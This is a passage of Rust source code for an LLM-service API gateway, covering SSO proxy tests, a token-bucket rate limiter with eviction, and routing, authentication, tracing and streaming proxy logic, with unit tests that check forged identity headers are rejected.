        let token = login.json().unwrap().str_field("session").unwrap().to_string();
        let resp = client
            .send(&Request::new("GET", "/chat").with_header("cookie", &format!("session={token}")))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(
            resp.json().unwrap().str_field("email"),
            Some("adoost@uni-goettingen.de")
        );
    }

    #[test]
    fn unknown_user_rejected() {
        let (sso, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        let resp = client
            .post_json("/sso/login", &Json::obj().set("username", "mallory"))
            .unwrap();
        assert_eq!(resp.status, 401);
        assert_eq!(sso.rejected.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn client_cannot_spoof_identity_header() {
        let (_sso, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        // No session but a forged x-user-email: still redirected.
        let resp = client
            .send(&Request::new("GET", "/chat").with_header("x-user-email", "admin@evil"))
            .unwrap();
        assert_eq!(resp.status, 302);
    }

    #[test]
    fn forged_header_is_overwritten_for_valid_session() {
        let (sso, server, _gw) = setup();
        let token = sso.login("adoost").unwrap();
        let mut client = Client::new(&server.url());
        let resp = client
            .send(
                &Request::new("GET", "/chat")
                    .with_header("cookie", &format!("session={token}"))
                    .with_header("x-user-email", "admin@evil"),
            )
            .unwrap();
        assert_eq!(
            resp.json().unwrap().str_field("email"),
            Some("adoost@uni-goettingen.de"),
            "proxy must overwrite, not trust, the identity header"
        );
    }

    #[test]
    fn logout_invalidates_session() {
        let (sso, server, _gw) = setup();
        let token = sso.login("adoost").unwrap();
        sso.logout(&token);
        let mut client = Client::new(&server.url());
        let resp = client
            .send(&Request::new("GET", "/chat").with_header("cookie", &format!("session={token}")))
            .unwrap();
        assert_eq!(resp.status, 302);
    }
}
