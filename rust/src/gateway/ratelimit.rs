//! Token-bucket rate limiting (Kong's `rate-limiting` plugin).

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::Instant;

/// Per-consumer token bucket limiter.
pub struct RateLimiter {
    /// Sustained rate (tokens per second).
    rate: f64,
    /// Bucket capacity (burst).
    burst: f64,
    buckets: Mutex<HashMap<String, Bucket>>,
}

struct Bucket {
    tokens: f64,
    last: Instant,
}

impl RateLimiter {
    pub fn new(rate_per_sec: f64, burst: u32) -> RateLimiter {
        RateLimiter {
            rate: rate_per_sec,
            burst: burst as f64,
            buckets: Mutex::new(HashMap::new()),
        }
    }

    /// Try to take one token for `consumer`; false = 429.
    pub fn allow(&self, consumer: &str) -> bool {
        let mut buckets = self.buckets.lock().unwrap();
        let now = Instant::now();
        let bucket = buckets.entry(consumer.to_string()).or_insert(Bucket {
            tokens: self.burst,
            last: now,
        });
        let elapsed = now.duration_since(bucket.last).as_secs_f64();
        bucket.tokens = (bucket.tokens + elapsed * self.rate).min(self.burst);
        bucket.last = now;
        if bucket.tokens >= 1.0 {
            bucket.tokens -= 1.0;
            true
        } else {
            false
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn burst_then_throttle() {
        let rl = RateLimiter::new(10.0, 5);
        let mut allowed = 0;
        for _ in 0..20 {
            if rl.allow("alice") {
                allowed += 1;
            }
        }
        assert_eq!(allowed, 5, "only the burst passes instantly");
    }

    #[test]
    fn refills_over_time() {
        let rl = RateLimiter::new(1000.0, 2);
        assert!(rl.allow("bob"));
        assert!(rl.allow("bob"));
        assert!(!rl.allow("bob"));
        std::thread::sleep(std::time::Duration::from_millis(5));
        assert!(rl.allow("bob"), "refilled after 5ms at 1000/s");
    }

    #[test]
    fn consumers_are_isolated() {
        let rl = RateLimiter::new(1.0, 1);
        assert!(rl.allow("a"));
        assert!(!rl.allow("a"));
        assert!(rl.allow("b"), "b has its own bucket");
    }

    #[test]
    fn never_exceeds_rate_property() {
        // Over a 100ms window at 100/s with burst 10, at most
        // burst + rate*t ≈ 10 + 10 = 20 requests may pass.
        let rl = RateLimiter::new(100.0, 10);
        let t0 = Instant::now();
        let mut allowed = 0;
        while t0.elapsed().as_millis() < 100 {
            if rl.allow("x") {
                allowed += 1;
            }
        }
        assert!(allowed <= 21, "allowed={allowed}");
        assert!(allowed >= 10, "burst should pass: {allowed}");
    }
}
