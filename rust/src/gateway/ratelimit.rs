//! Token-bucket rate limiting (Kong's `rate-limiting` plugin).
//!
//! Buckets are per-consumer and, since the millions-of-users scenario, no
//! longer immortal: a churning consumer population used to grow the map
//! without bound (each consumer's bucket lived forever). Mirroring the
//! pooled-client cache policy in `util::http`, buckets idle past a
//! deadline are evicted on the allocation path, and a hard cap drops the
//! least-recently-used buckets on overflow. Evicting is always safe: a
//! returning consumer's bucket is recreated *full*, which only errs in
//! the consumer's favor by at most one burst.

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// Drop a bucket untouched for this long (idle consumers).
const BUCKET_IDLE: Duration = Duration::from_secs(600);
/// Hard cap on tracked consumers; beyond it the least-recently-used
/// buckets are dropped first.
const MAX_BUCKETS: usize = 8192;

/// Per-consumer token bucket limiter.
pub struct RateLimiter {
    /// Sustained rate (tokens per second).
    rate: f64,
    /// Bucket capacity (burst).
    burst: f64,
    idle: Duration,
    max_buckets: usize,
    buckets: Mutex<HashMap<String, Bucket>>,
}

struct Bucket {
    tokens: f64,
    last: Instant,
}

impl RateLimiter {
    pub fn new(rate_per_sec: f64, burst: u32) -> RateLimiter {
        Self::with_eviction(rate_per_sec, burst, BUCKET_IDLE, MAX_BUCKETS)
    }

    /// Construct with explicit eviction tuning (tests drive small values).
    pub fn with_eviction(
        rate_per_sec: f64,
        burst: u32,
        idle: Duration,
        max_buckets: usize,
    ) -> RateLimiter {
        RateLimiter {
            rate: rate_per_sec,
            burst: burst as f64,
            idle,
            max_buckets: max_buckets.max(1),
            buckets: Mutex::new(HashMap::new()),
        }
    }

    /// Try to take one token for `consumer`; false = 429.
    pub fn allow(&self, consumer: &str) -> bool {
        self.allow_at(consumer, Instant::now())
    }

    /// Clock-injectable variant of [`RateLimiter::allow`].
    pub fn allow_at(&self, consumer: &str, now: Instant) -> bool {
        let mut buckets = self.buckets.lock().unwrap();
        // Eviction rides the insert path: only when a *new* consumer would
        // grow the map do we sweep idle buckets (and, if the cap is still
        // exceeded, a batch of the least-recently-used ones) — steady-state
        // traffic from known consumers never pays the sweep, and evicting
        // ~1/8 of the cap at once amortizes the O(n) scan across the next
        // max_buckets/8 fresh consumers instead of paying it per request.
        if !buckets.contains_key(consumer) && buckets.len() >= self.max_buckets {
            let idle = self.idle;
            buckets.retain(|_, b| now.saturating_duration_since(b.last) < idle);
            if buckets.len() >= self.max_buckets {
                let mut stamps: Vec<Instant> = buckets.values().map(|b| b.last).collect();
                let k = (self.max_buckets / 8).max(1);
                let idx = (k - 1).min(stamps.len() - 1);
                let (_, threshold, _) = stamps.select_nth_unstable(idx);
                let threshold = *threshold;
                buckets.retain(|_, b| b.last > threshold);
            }
        }
        let bucket = buckets.entry(consumer.to_string()).or_insert(Bucket {
            tokens: self.burst,
            last: now,
        });
        let elapsed = now.saturating_duration_since(bucket.last).as_secs_f64();
        bucket.tokens = (bucket.tokens + elapsed * self.rate).min(self.burst);
        bucket.last = now;
        if bucket.tokens >= 1.0 {
            bucket.tokens -= 1.0;
            true
        } else {
            false
        }
    }

    /// Tracked consumer count (leak guard observability).
    pub fn tracked_consumers(&self) -> usize {
        self.buckets.lock().unwrap().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn burst_then_throttle() {
        let rl = RateLimiter::new(10.0, 5);
        let mut allowed = 0;
        for _ in 0..20 {
            if rl.allow("alice") {
                allowed += 1;
            }
        }
        assert_eq!(allowed, 5, "only the burst passes instantly");
    }

    #[test]
    fn refills_over_time() {
        let rl = RateLimiter::new(1000.0, 2);
        assert!(rl.allow("bob"));
        assert!(rl.allow("bob"));
        assert!(!rl.allow("bob"));
        std::thread::sleep(std::time::Duration::from_millis(5));
        assert!(rl.allow("bob"), "refilled after 5ms at 1000/s");
    }

    #[test]
    fn consumers_are_isolated() {
        let rl = RateLimiter::new(1.0, 1);
        assert!(rl.allow("a"));
        assert!(!rl.allow("a"));
        assert!(rl.allow("b"), "b has its own bucket");
    }

    #[test]
    fn never_exceeds_rate_property() {
        // Over a 100ms window at 100/s with burst 10, at most
        // burst + rate*t ≈ 10 + 10 = 20 requests may pass.
        let rl = RateLimiter::new(100.0, 10);
        let t0 = Instant::now();
        let mut allowed = 0;
        while t0.elapsed().as_millis() < 100 {
            if rl.allow("x") {
                allowed += 1;
            }
        }
        assert!(allowed <= 21, "allowed={allowed}");
        assert!(allowed >= 10, "burst should pass: {allowed}");
    }

    #[test]
    fn idle_buckets_are_evicted_on_overflow() {
        let idle = Duration::from_secs(10);
        let rl = RateLimiter::with_eviction(1.0, 1, idle, 2);
        let t0 = Instant::now();
        assert!(rl.allow_at("a", t0));
        assert!(rl.allow_at("b", t0 + Duration::from_secs(1)));
        assert_eq!(rl.tracked_consumers(), 2);
        // A third consumer arrives long after a and b went idle: both
        // stale buckets are swept, the map never exceeds the cap.
        assert!(rl.allow_at("c", t0 + Duration::from_secs(30)));
        assert_eq!(rl.tracked_consumers(), 1, "idle buckets evicted");
    }

    #[test]
    fn overflow_evicts_least_recently_used_first() {
        let idle = Duration::from_secs(3600); // nobody is idle
        let rl = RateLimiter::with_eviction(1.0, 2, idle, 2);
        let t0 = Instant::now();
        assert!(rl.allow_at("old", t0));
        assert!(rl.allow_at("hot", t0 + Duration::from_secs(1)));
        // "old" is the LRU: the cap drops it for the newcomer.
        assert!(rl.allow_at("new", t0 + Duration::from_secs(2)));
        assert_eq!(rl.tracked_consumers(), 2);
        let buckets = rl.buckets.lock().unwrap();
        assert!(buckets.contains_key("hot"));
        assert!(buckets.contains_key("new"));
        assert!(!buckets.contains_key("old"), "LRU bucket evicted");
    }

    #[test]
    fn eviction_recreates_bucket_full_never_owing() {
        let idle = Duration::from_millis(100);
        let rl = RateLimiter::with_eviction(0.001, 1, idle, 1);
        let t0 = Instant::now();
        assert!(rl.allow_at("a", t0));
        assert!(!rl.allow_at("a", t0), "burst spent");
        // Evicted by b's arrival, then a returns: fresh full bucket.
        assert!(rl.allow_at("b", t0 + Duration::from_secs(1)));
        assert!(rl.allow_at("a", t0 + Duration::from_secs(2)));
    }

    #[test]
    fn churning_population_is_bounded() {
        let rl = RateLimiter::with_eviction(10.0, 2, Duration::from_secs(1), 64);
        let t0 = Instant::now();
        // Millions-of-users shape: every request a fresh consumer.
        for i in 0..10_000u32 {
            let t = t0 + Duration::from_millis(i as u64);
            rl.allow_at(&format!("user-{i}"), t);
        }
        assert!(
            rl.tracked_consumers() <= 64,
            "buckets leaked: {}",
            rl.tracked_consumers()
        );
    }
}
