//! Kong-like API gateway (§5.2): routes, upstream load balancing, API-key
//! consumers, per-consumer rate limiting, and a Prometheus metrics
//! endpoint.
//!
//! The gateway is the single externally exposed component: web users reach
//! it through the SSO reverse proxy (which injects `x-user-email`), API
//! users hit it directly with an `authorization: Bearer <key>` header —
//! both paths unify here, exactly as in the paper.

mod ratelimit;

pub use ratelimit::RateLimiter;

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, RwLock};

use crate::util::fairness::Priority;
use crate::util::hist::Histogram;
use crate::util::http::{Handler, Request, Response, Server, StreamOutcome};
use crate::util::json::Json;
use crate::util::rng::Rng;
use crate::util::streaming::{StreamHandle, StreamStats, StreamingConfig};
use crate::util::trace;

/// One gateway route.
pub struct Route {
    pub name: String,
    /// Longest-prefix match against the request path.
    pub path_prefix: String,
    /// Strip the prefix before proxying?
    pub strip_prefix: bool,
    /// Upstream addresses (load balanced uniformly at random).
    pub upstreams: RwLock<Vec<String>>,
    /// Require an authenticated consumer (API key or SSO header)?
    pub require_auth: bool,
    /// Optional per-consumer rate limit.
    pub rate_limit: Option<RateLimiter>,
    // metrics
    pub hits: AtomicU64,
    pub errors: AtomicU64,
    pub rate_limited: AtomicU64,
    /// Upstream shed responses (429/503 + Retry-After) passed through.
    pub shed: AtomicU64,
    pub latency_us: Histogram,
}

impl Route {
    pub fn new(name: &str, path_prefix: &str) -> Route {
        Route {
            name: name.to_string(),
            path_prefix: path_prefix.to_string(),
            strip_prefix: false,
            upstreams: RwLock::new(Vec::new()),
            require_auth: true,
            rate_limit: None,
            hits: AtomicU64::new(0),
            errors: AtomicU64::new(0),
            rate_limited: AtomicU64::new(0),
            shed: AtomicU64::new(0),
            latency_us: Histogram::new(),
        }
    }

    pub fn with_upstream(self, addr: &str) -> Route {
        self.upstreams.write().unwrap().push(addr.to_string());
        self
    }

    pub fn with_strip_prefix(mut self) -> Route {
        self.strip_prefix = true;
        self
    }

    pub fn public(mut self) -> Route {
        self.require_auth = false;
        self
    }

    pub fn with_rate_limit(mut self, rate: f64, burst: u32) -> Route {
        self.rate_limit = Some(RateLimiter::new(rate, burst));
        self
    }
}

/// Gateway configuration + state.
pub struct Gateway {
    routes: Vec<Arc<Route>>,
    /// API key → consumer name.
    api_keys: RwLock<HashMap<String, String>>,
    /// Consumer → configured priority class ceiling. Consumers default to
    /// interactive; a `batch` entry pins all their traffic to batch.
    consumer_priority: RwLock<HashMap<String, Priority>>,
    /// Shared secret the SSO reverse proxy attaches; `x-user-email` is
    /// only trusted when it matches (API users hitting the gateway
    /// directly cannot forge an SSO identity).
    trusted_proxy_secret: RwLock<Option<String>>,
    rng: Mutex<Rng>,
    streaming: StreamingConfig,
    /// Federated model catalog hook: when set, `GET /v1/models` is
    /// answered here — aggregated across clusters — instead of being
    /// proxied to whichever single cluster a route would pick.
    #[allow(clippy::type_complexity)]
    models_provider: RwLock<Option<Box<dyn Fn() -> Json + Send + Sync>>>,
    /// Admin drain hook: when set, authenticated `POST /admin/drain`
    /// requests (`{"node":"...","drain":true|false}`) are answered here —
    /// they reach the coordinator's Slurm controller, which no single
    /// proxied upstream owns.
    #[allow(clippy::type_complexity)]
    admin_drain: RwLock<Option<Box<dyn Fn(&Json) -> Response + Send + Sync>>>,
    pub total_requests: AtomicU64,
    pub unauthorized: AtomicU64,
    /// Per-stream lifecycle metrics (TTFT, cancelled vs completed, bytes).
    pub stream_stats: Arc<StreamStats>,
}

impl Gateway {
    pub fn new(routes: Vec<Route>) -> Arc<Gateway> {
        Self::with_streaming(routes, StreamingConfig::default())
    }

    pub fn with_streaming(routes: Vec<Route>, streaming: StreamingConfig) -> Arc<Gateway> {
        Arc::new(Gateway {
            routes: routes.into_iter().map(Arc::new).collect(),
            api_keys: RwLock::new(HashMap::new()),
            consumer_priority: RwLock::new(HashMap::new()),
            trusted_proxy_secret: RwLock::new(None),
            rng: Mutex::new(Rng::new(0xCAFE)),
            streaming,
            models_provider: RwLock::new(None),
            admin_drain: RwLock::new(None),
            total_requests: AtomicU64::new(0),
            unauthorized: AtomicU64::new(0),
            stream_stats: StreamStats::new(),
        })
    }

    /// Require `x-proxy-secret` to accompany SSO identity headers.
    pub fn set_trusted_proxy_secret(&self, secret: &str) {
        *self.trusted_proxy_secret.write().unwrap() = Some(secret.to_string());
    }

    /// Serve `GET /v1/models` from the model catalog (federated
    /// aggregation) instead of proxying it to a single cluster.
    pub fn set_models_provider(&self, provider: impl Fn() -> Json + Send + Sync + 'static) {
        *self.models_provider.write().unwrap() = Some(Box::new(provider));
    }

    /// Handle authenticated `POST /admin/drain` requests with `handler`
    /// (the coordinator wires this to `Slurmctld::drain_node`).
    pub fn set_admin_drain(&self, handler: impl Fn(&Json) -> Response + Send + Sync + 'static) {
        *self.admin_drain.write().unwrap() = Some(Box::new(handler));
    }

    /// Register an API key for a consumer.
    pub fn add_api_key(&self, key: &str, consumer: &str) {
        self.api_keys
            .write()
            .unwrap()
            .insert(key.to_string(), consumer.to_string());
    }

    /// Configure a consumer's priority-class ceiling (default:
    /// interactive). Batch consumers cannot self-upgrade via the header.
    pub fn set_consumer_priority(&self, consumer: &str, priority: Priority) {
        self.consumer_priority
            .write()
            .unwrap()
            .insert(consumer.to_string(), priority);
    }

    /// Effective priority class for a request: the consumer's configured
    /// ceiling, optionally lowered by an `x-chat-ai-priority: batch`
    /// request header. Requests can opt *down*, never up.
    fn priority_for(&self, consumer: Option<&str>, req: &Request) -> Priority {
        let ceiling = consumer
            .and_then(|c| self.consumer_priority.read().unwrap().get(c).copied())
            .unwrap_or_default();
        match req.header("x-chat-ai-priority").and_then(Priority::parse) {
            Some(Priority::Batch) => Priority::Batch,
            _ => ceiling,
        }
    }

    pub fn route(&self, name: &str) -> Option<&Arc<Route>> {
        self.routes.iter().find(|r| r.name == name)
    }

    /// Update a route's upstream set (service discovery hook).
    pub fn set_upstreams(&self, route: &str, upstreams: Vec<String>) {
        if let Some(r) = self.route(route) {
            *r.upstreams.write().unwrap() = upstreams;
        }
    }

    /// Resolve the consumer identity: SSO header (from the auth reverse
    /// proxy) or API key.
    fn consumer(&self, req: &Request) -> Option<String> {
        if let Some(email) = req.header("x-user-email") {
            let secret = self.trusted_proxy_secret.read().unwrap();
            match secret.as_deref() {
                // Trust the SSO header only with the proxy secret.
                Some(s) if req.header("x-proxy-secret") == Some(s) => {
                    return Some(email.to_string());
                }
                // No secret configured (tests / closed deployments).
                None => return Some(email.to_string()),
                _ => {} // forged header: fall through to API-key auth
            }
        }
        let key = req
            .header("authorization")
            .and_then(|v| v.strip_prefix("Bearer "))
            .or_else(|| req.header("x-api-key"))?;
        self.api_keys.read().unwrap().get(key).cloned()
    }

    fn match_route(&self, path: &str) -> Option<&Arc<Route>> {
        self.routes
            .iter()
            .filter(|r| path.starts_with(&r.path_prefix))
            .max_by_key(|r| r.path_prefix.len())
    }

    /// Handle one request (the HTTP handler body).
    pub fn handle(&self, req: &Request) -> Response {
        self.total_requests.fetch_add(1, Ordering::Relaxed);
        if req.path == "/metrics" {
            return Response::text(200, self.metrics_text());
        }
        // Federated model catalog (when installed): the list is aggregated
        // from every cluster's placement + health, so no single upstream
        // could answer it. Same auth bar as the model routes.
        if req.method == "GET" && req.path == "/v1/models" {
            let provider = self.models_provider.read().unwrap();
            if let Some(provider) = provider.as_ref() {
                if self.consumer(req).is_none() {
                    self.unauthorized.fetch_add(1, Ordering::Relaxed);
                    return Response::error(401, "missing or invalid credentials");
                }
                return Response::json(200, &provider());
            }
        }
        // Operator drain control (when installed): always authenticated —
        // draining a node is a cluster-wide action no proxied upstream
        // owns, so it is answered here like the model catalog.
        if req.method == "POST" && req.path == "/admin/drain" {
            let handler = self.admin_drain.read().unwrap();
            if let Some(handler) = handler.as_ref() {
                if self.consumer(req).is_none() {
                    self.unauthorized.fetch_add(1, Ordering::Relaxed);
                    return Response::error(401, "missing or invalid credentials");
                }
                let Ok(body) =
                    crate::util::json::parse(&String::from_utf8_lossy(&req.body))
                else {
                    return Response::error(400, "drain request must be JSON");
                };
                return handler(&body);
            }
        }
        let Some(route) = self.match_route(&req.path) else {
            return Response::error(404, "no route");
        };
        route.hits.fetch_add(1, Ordering::Relaxed);

        // ---- auth ------------------------------------------------------
        let consumer = self.consumer(req);
        if route.require_auth && consumer.is_none() {
            self.unauthorized.fetch_add(1, Ordering::Relaxed);
            return Response::error(401, "missing or invalid credentials");
        }
        // ---- rate limiting ----------------------------------------------
        if let Some(limiter) = &route.rate_limit {
            let who = consumer.as_deref().unwrap_or("anonymous");
            if !limiter.allow(who) {
                route.rate_limited.fetch_add(1, Ordering::Relaxed);
                return Response::error(429, "rate limit exceeded")
                    .with_header("retry-after", "1");
            }
        }
        // ---- priority class ----------------------------------------------
        let priority = self.priority_for(consumer.as_deref(), req);
        // ---- tracing ------------------------------------------------------
        // The gateway is the chain's outermost hop: honor a well-formed
        // caller-supplied trace id, otherwise mint one. The id rides the
        // `x-chat-ai-trace` header through every hop and keys the per-hop
        // span slot claimed here.
        let trace_id = req
            .header("x-chat-ai-trace")
            .and_then(trace::TraceId::parse)
            .or_else(|| trace::enabled().then(trace::TraceId::mint));
        if let Some(id) = trace_id {
            trace::begin(id);
        }
        let _trace_scope = trace_id.map(trace::scoped);
        // ---- proxy --------------------------------------------------------
        let upstream = {
            let ups = route.upstreams.read().unwrap();
            if ups.is_empty() {
                route.errors.fetch_add(1, Ordering::Relaxed);
                return Response::error(503, "no upstream available");
            }
            let mut rng = self.rng.lock().unwrap();
            ups[rng.below(ups.len() as u64) as usize].clone()
        };
        let t0 = std::time::Instant::now();
        let resp = proxy(
            req,
            route,
            &upstream,
            consumer.as_deref(),
            priority,
            trace_id,
            &self.streaming,
            &self.stream_stats,
        );
        route.latency_us.record(t0.elapsed().as_micros() as u64);
        resp
    }

    fn metrics_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "gateway_requests_total {}\ngateway_unauthorized_total {}\n",
            self.total_requests.load(Ordering::Relaxed),
            self.unauthorized.load(Ordering::Relaxed)
        ));
        out.push_str(&self.stream_stats.prometheus_text("gateway"));
        for r in &self.routes {
            out.push_str(&format!(
                "gateway_route_hits_total{{route=\"{}\"}} {}\n\
                 gateway_route_errors_total{{route=\"{}\"}} {}\n\
                 gateway_route_rate_limited_total{{route=\"{}\"}} {}\n\
                 gateway_route_shed_total{{route=\"{}\"}} {}\n\
                 gateway_route_upstreams{{route=\"{}\"}} {}\n\
                 gateway_route_latency_p50_us{{route=\"{}\"}} {}\n\
                 gateway_route_latency_p99_us{{route=\"{}\"}} {}\n",
                r.name,
                r.hits.load(Ordering::Relaxed),
                r.name,
                r.errors.load(Ordering::Relaxed),
                r.name,
                r.rate_limited.load(Ordering::Relaxed),
                r.name,
                r.shed.load(Ordering::Relaxed),
                r.name,
                r.upstreams.read().unwrap().len(),
                r.name,
                r.latency_us.p50(),
                r.name,
                r.latency_us.p99(),
            ));
        }
        out
    }

    /// Start the gateway's HTTP server.
    pub fn serve(self: &Arc<Gateway>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let gw = self.clone();
        let handler: Handler = Arc::new(move |req| gw.handle(req));
        Server::serve(addr, "gateway", workers, handler)
    }
}

/// Forward a request to the upstream, streaming chunked bodies through.
#[allow(clippy::too_many_arguments)]
fn proxy(
    req: &Request,
    route: &Arc<Route>,
    upstream: &str,
    consumer: Option<&str>,
    priority: Priority,
    trace_id: Option<trace::TraceId>,
    streaming: &StreamingConfig,
    stream_stats: &Arc<StreamStats>,
) -> Response {
    // Request receipt for this hop's spans (TTFB is measured to the first
    // response *body* byte, so the engine's first token bounds it).
    let t0 = std::time::Instant::now();
    let path = if route.strip_prefix {
        let stripped = req.path.strip_prefix(&route.path_prefix).unwrap_or("");
        if stripped.is_empty() {
            "/".to_string()
        } else {
            stripped.to_string()
        }
    } else {
        req.path.clone()
    };
    let mut up_req = Request::new(&req.method, &path).with_body(req.body.clone());
    up_req.query = req.query.clone();
    for (k, v) in &req.headers {
        if k != "host" && k != "content-length" && k != "connection" && k != "x-chat-ai-trace" {
            up_req = up_req.with_header(k, v);
        }
    }
    if let Some(c) = consumer {
        up_req = up_req.with_header("x-consumer", c);
    }
    // The resolved class (consumer ceiling ∧ request header) replaces
    // whatever the client sent — downstream hops trust this value.
    up_req = up_req.with_header("x-chat-ai-priority", priority.as_str());
    // The validated (or gateway-minted) trace id replaces whatever the
    // client sent, for the same reason.
    if let Some(id) = trace_id {
        up_req = up_req.with_header("x-chat-ai-trace", id.as_str());
    }

    // Streaming path: once the upstream head says "chunked pass-through",
    // the gateway stops interpreting the body entirely — chunks are read
    // into pool-recycled buffers and forwarded as raw bytes (no per-token
    // allocation, vectored writes on the client side). The stream handle
    // minted here is the top of the cancellation chain.
    if req.wants_stream() {
        let mut handle = StreamHandle::begin(stream_stats.clone());
        let cancel = handle.token();
        let (resp, tx) = Response::stream(200, streaming.chunk_buffer);
        let resp = resp
            .with_relay(streaming.relay)
            .with_stream_cancel(cancel.clone())
            .with_stall_timeout(streaming.stall_timeout)
            .with_stream_stats(stream_stats.clone());
        let upstream = upstream.to_string();
        let route = route.clone();
        let relay = streaming.relay;
        let stats = stream_stats.clone();
        std::thread::spawn(move || {
            let pool = relay.then(crate::util::http::relay_pool);
            let _trace_scope = trace_id.map(trace::scoped);
            // Whether the stream actually rides the opaque relay path:
            // requires relay mode *and* a chunked upstream body.
            let riding_relay = std::cell::Cell::new(relay);
            // First-body-byte time (µs); 0 = not yet seen. Recorded once
            // per stream, so span capture adds nothing per token.
            let ttfb_us = std::cell::Cell::new(0u64);
            // Pool checkout: the guard returns the keep-alive connection
            // only after the stream drained cleanly (relay_until re-caches
            // it on Complete; an aborted or errored stream leaves the
            // guard empty, so checkin discards the slot).
            let result = crate::util::http::pooled(&upstream).and_then(|mut client| {
                client.relay_until(
                    &up_req,
                    pool.as_ref(),
                    |_status, headers| {
                        // A non-chunked upstream body cannot ride the opaque
                        // path; it degrades to one buffered chunk.
                        let chunked = headers
                            .get("transfer-encoding")
                            .map(|v| v.eq_ignore_ascii_case("chunked"))
                            .unwrap_or(false);
                        if relay && !chunked {
                            riding_relay.set(false);
                            stats.relay_fallbacks.fetch_add(1, Ordering::Relaxed);
                        }
                    },
                    |chunk| {
                        if ttfb_us.get() == 0 {
                            // Outermost first body byte: record this hop's
                            // inclusive TTFB and finalize the trace — every
                            // inner hop has already recorded its own (bytes
                            // flow inside-out), so the per-hop exclusive
                            // attribution telescopes to this end-to-end value.
                            let ttfb = t0.elapsed();
                            ttfb_us.set((ttfb.as_micros() as u64).max(1));
                            if let Some(id) = trace_id {
                                trace::record(id, trace::Hop::Gateway, trace::Stage::Ttfb, ttfb);
                                trace::finalize(id, ttfb);
                            }
                        }
                        if riding_relay.get() {
                            handle.on_forward(chunk.len());
                        } else {
                            handle.on_chunk(chunk.len());
                        }
                        if cancel.is_cancelled() {
                            return false; // client went away: stop reading
                        }
                        if tx.send(chunk).is_err() {
                            cancel.cancel();
                            return false;
                        }
                        true
                    },
                )
            });
            match result {
                Ok(StreamOutcome::Complete) => {
                    handle.finish_completed();
                    if let Some(id) = trace_id {
                        if ttfb_us.get() > 0 {
                            let relay_time = t0
                                .elapsed()
                                .saturating_sub(std::time::Duration::from_micros(ttfb_us.get()));
                            trace::record(id, trace::Hop::Gateway, trace::Stage::Relay, relay_time);
                        }
                    }
                }
                Ok(StreamOutcome::Aborted) => handle.finish_cancelled(),
                Err(e) => {
                    // Propagate upstream failure as a terminal SSE error
                    // event — never silently drop the sender (the client
                    // would see a clean-looking empty stream). The trace
                    // id gives the mid-stream failure a request identity
                    // the client and the logs can join on.
                    route.errors.fetch_add(1, Ordering::Relaxed);
                    handle.finish_error();
                    let tid = trace_id.as_ref().map(|i| i.as_str()).unwrap_or("-");
                    log::warn!(
                        target: "gateway",
                        "upstream error on route {} (trace {tid}): {e}",
                        route.name
                    );
                    let event = Response::sse_error_event(
                        &format!("upstream error: {e}"),
                        "upstream_error",
                        trace_id.as_ref().map(|i| i.as_str()),
                    );
                    let _ = tx.send(event.into());
                }
            }
        });
        return resp.with_header("content-type", "text/event-stream");
    }

    let sent = crate::util::http::pooled(upstream).and_then(|mut client| client.send(&up_req));
    match sent {
        Ok(up) => {
            if let Some(id) = trace_id {
                // Buffered responses have no token stream; the whole
                // round-trip is this hop's inclusive TTFB.
                let ttfb = t0.elapsed();
                trace::record(id, trace::Hop::Gateway, trace::Stage::Ttfb, ttfb);
                trace::finalize(id, ttfb);
            }
            let mut resp = Response::new(up.status).with_body(up.body);
            if let Some(ct) = up.headers.get("content-type") {
                resp = resp.with_header("content-type", ct);
            }
            if let Some(ra) = up.headers.get("retry-after") {
                // Admission-control shed deep in the stack: surface the
                // backoff hint to the client and count it here, at the
                // hop the client actually sees.
                resp = resp.with_header("retry-after", ra);
                if up.status == 429 || up.status == 503 {
                    route.shed.fetch_add(1, Ordering::Relaxed);
                }
            }
            resp
        }
        Err(e) => {
            route.errors.fetch_add(1, Ordering::Relaxed);
            Response::api_error(
                502,
                &format!("upstream error: {e}"),
                trace_id.as_ref().map(|i| i.as_str()),
                None,
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::Client;
    use crate::util::json::Json;

    fn upstream_server() -> Server {
        Server::serve(
            "127.0.0.1:0",
            "upstream",
            2,
            Arc::new(|req: &Request| {
                Response::json(
                    200,
                    &Json::obj()
                        .set("path", req.path.as_str())
                        .set("consumer", req.header("x-consumer").unwrap_or("-"))
                        .set("priority", req.header("x-chat-ai-priority").unwrap_or("-")),
                )
            }),
        )
        .unwrap()
    }

    fn gateway_with(routes: Vec<Route>) -> (Arc<Gateway>, Server) {
        let gw = Gateway::new(routes);
        let server = gw.serve("127.0.0.1:0", 4).unwrap();
        (gw, server)
    }

    #[test]
    fn routes_by_longest_prefix_and_strips() {
        let up = upstream_server();
        let (gw, server) = gateway_with(vec![
            Route::new("all", "/").public().with_upstream(&up.addr().to_string()),
            Route::new("llama", "/llama3-70b")
                .public()
                .with_strip_prefix()
                .with_upstream(&up.addr().to_string()),
        ]);
        let mut client = Client::new(&server.url());
        let v = client.get("/llama3-70b/v1/models").unwrap().json().unwrap();
        assert_eq!(v.str_field("path"), Some("/v1/models"));
        let v = client.get("/other").unwrap().json().unwrap();
        assert_eq!(v.str_field("path"), Some("/other"));
        assert_eq!(gw.route("llama").unwrap().hits.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn auth_via_api_key_and_sso_header() {
        let up = upstream_server();
        let (gw, server) =
            gateway_with(vec![Route::new("api", "/").with_upstream(&up.addr().to_string())]);
        gw.add_api_key("sk-test-123", "researcher-42");
        let mut client = Client::new(&server.url());
        // no credentials → 401
        assert_eq!(client.get("/v1/models").unwrap().status, 401);
        // bad key → 401
        let resp = client
            .send(&Request::new("GET", "/v1/models").with_header("authorization", "Bearer nope"))
            .unwrap();
        assert_eq!(resp.status, 401);
        // API key → forwarded with consumer identity
        let resp = client
            .send(
                &Request::new("GET", "/v1/models")
